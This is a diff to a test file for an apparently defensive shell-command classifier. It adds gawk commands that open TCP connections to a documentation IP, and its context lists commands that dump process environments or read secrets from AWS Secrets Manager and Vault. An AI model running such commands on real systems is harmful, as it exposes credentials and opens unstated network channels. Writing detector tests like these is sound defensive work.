@@ -105,6 +105,12 @@ describe('category hits', () => {
     ['printenv dump', 'printenv', 'secret_material_read'],
     ["ps printing every process's environment (BSD e)", 'ps -ef e', 'secret_material_read'],
     ['ps auxe', 'ps auxe', 'secret_material_read'],
+    ["gawk's network special file", 'gawk 1 /inet/tcp/0/203.0.113.7/80', 'outbound_network_to_unstated_host'],
+    [
+      'gawk network in its program',
+      `gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.7/80"; print "x" |& s }'`,
+      'outbound_network_to_unstated_host',
+    ],
     ['ps eww', 'ps eww -p 1', 'secret_material_read'],
     ['aws secret value', 'aws secretsmanager get-secret-value --secret-id prod/db', 'secret_material_read'],
     ['vault kv get', 'vault kv get secret/app', 'secret_material_read'],
